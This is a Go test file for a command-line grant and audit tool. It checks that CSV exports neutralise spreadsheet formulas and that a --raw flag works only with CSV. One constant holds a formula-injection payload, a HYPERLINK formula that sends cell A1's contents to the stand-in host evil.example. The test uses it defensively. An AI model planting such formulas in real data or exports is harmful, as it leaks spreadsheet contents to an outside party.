package main

import (
	"encoding/csv"
	"strings"
	"testing"
)

// formulaReason is a reason a requester could type to attack whoever opens the CSV.
const formulaReason = `=HYPERLINK("https://evil.example/?d="&A1,"open")`

// csvCells parses out as CSV and returns every cell.
func csvCells(t *testing.T, what, out string) []string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("%s is not CSV: %v\n%s", what, err, out)
	}
	var cells []string
	for _, r := range rows {
		cells = append(cells, r...)
	}
	return cells
}

// TestCSVOutputsDefuseFormulas: audit search, audit export and report write a reason that
// starts with '=' with a leading ' in CSV (no cell starts with = + - @), and exactly with --raw.
func TestCSVOutputsDefuseFormulas(t *testing.T) {
	p := newInProcess(t)
	p.mustRun("grants", "issue", "--config", p.config, "--resource", "prod-db", "--slack-user", "U0ALICE",
		"--duration", "30m", "--reason", formulaReason, "--operator", "tester")
	for _, cmd := range [][]string{
		{"audit", "search", "--format", "csv"},
		{"audit", "export", "--format", "csv"},
		{"report", "--format", "csv"},
	} {
		name := strings.Join(cmd[:len(cmd)-2], " ")
		t.Run(name, func(t *testing.T) {
			cells := csvCells(t, name, p.mustRun(append(cmd, "--config", p.config)...))
			found := false
			for _, c := range cells {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("%s wrote a cell a spreadsheet would run: %q", name, c)
				}
				found = found || c == "'"+formulaReason
			}
			if !found {
				t.Errorf("%s: no cell %q", name, "'"+formulaReason)
			}
			raw := csvCells(t, name+" --raw", p.mustRun(append(cmd, "--config", p.config, "--raw")...))
			exact := false
			for _, c := range raw {
				exact = exact || c == formulaReason
			}
			if !exact {
				t.Errorf("%s --raw: no cell with the exact reason %q", name, formulaReason)
			}
		})
	}
}

// TestRawNeedsCSV: --raw with any format but csv is a usage error that says why.
func TestRawNeedsCSV(t *testing.T) {
	p := newInProcess(t)
	for _, args := range [][]string{
		{"audit", "search", "--raw"},
		{"audit", "search", "--raw", "--format", "json"},
		{"audit", "export", "--raw"},
		{"report", "--raw"},
		{"report", "--raw", "--format", "json"},
	} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			stdout, stderr, code := p.run(append(args, "--config", p.config)...)
			if code != exitUsage || !strings.Contains(stderr, "--raw applies only to --format csv") || stdout != "" {
				t.Errorf("exit %d, stdout %q, stderr %q; want exit %d and a message that --raw needs --format csv", code, stdout, stderr, exitUsage)
			}
		})
	}
}
